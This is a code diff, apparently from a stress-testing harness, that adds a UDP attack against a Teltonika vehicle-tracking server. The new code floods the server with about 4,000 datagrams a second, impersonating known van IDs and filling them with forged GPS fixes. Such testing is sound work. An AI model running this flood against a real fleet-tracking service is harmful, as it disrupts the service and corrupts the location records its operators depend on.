@@ -22,6 +22,7 @@ export const ID_ATTACKS = {
   [DISPLACEMENT]: displace,
   'connections of one known id (TCP)': connections,
   'connections under the ids of vans (TCP)': evict,
+  'fixes of many spans under the ids of vans (UDP)': spansOfVans,
 } satisfies Record<string, Attack>
 
 async function inventedIds(victim: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
@@ -93,6 +94,18 @@ async function crowd(
     write(socket, avlLogin(ids[index % ids.length]), cost)
     return socket
   })
+}
+
+/** 4,000 datagrams a second, each with twenty fixes 2,048 s apart. */
+async function spansOfVans({ ports, vans }: Victim, cost: Cost, signal: AbortSignal): Promise<void> {
+  let n = 0
+  const next = () => {
+    const time = Date.now() - (n % 2000) * 1000
+    const place = { ...PLACE, latitude: (n % 800) / 10 }
+    const fixes = Array.from({ length: 20 }, (_, index) => ({ time: time - index * 2_048_000, ...place }))
+    return avlDatagram(vans[n++ % vans.length], 0x08, fixes)
+  }
+  await sendDatagrams(ports['udp/teltonika'], next, { cost, signal, atOnce: 40 })
 }
 
 /** Logs in, and sends packets as fast as they are answered; again after the connection was ended. */
